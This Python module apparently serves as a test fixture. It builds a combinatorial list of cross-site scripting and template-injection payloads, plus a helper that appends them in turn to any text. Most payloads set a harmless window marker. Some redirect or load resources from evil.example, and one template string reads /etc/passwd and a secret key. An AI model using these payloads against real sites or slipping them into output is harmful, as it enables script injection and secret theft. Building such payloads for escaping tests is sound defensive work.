"""Text that tries to become markup or script, wherever it is shown (trust 65)."""

from __future__ import annotations

from collections.abc import Callable
from itertools import cycle, product

__all__ = ["HIT", "PAYLOADS", "speaker"]

HIT = "radslagHit"
"""What each of them would set on the window."""

_RUN = f"window.{HIT}=1"
_WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "-->", "]]>", "</style>", "{{ x }}", '" ')
_WAYS_IN = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{_RUN}></SCRIPT>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}"/>',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{HIT}=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}=1></iframe>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<math><mtext></mtext><script>{_RUN}</script></math>",
    f"<object data=data:text/html,{_RUN}></object>",
    f"<embed src=data:text/html,{_RUN}>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    f"onmouseover={_RUN} x=",
    f"' autofocus onfocus='{_RUN}",
    f'" autofocus onfocus="{_RUN}',
    f"javascript:{_RUN}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\N{LEFT DOUBLE QUOTATION MARK}><script>{_RUN}</script>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
)

PAYLOADS = tuple(out + way for out, way in product(_WAYS_OUT, _WAYS_IN))


def speaker() -> Callable[[str], str]:
    """Gives a function that puts the next of them behind every text it is told."""
    each = cycle(PAYLOADS)
    return lambda text: f"{text} {next(each)}"
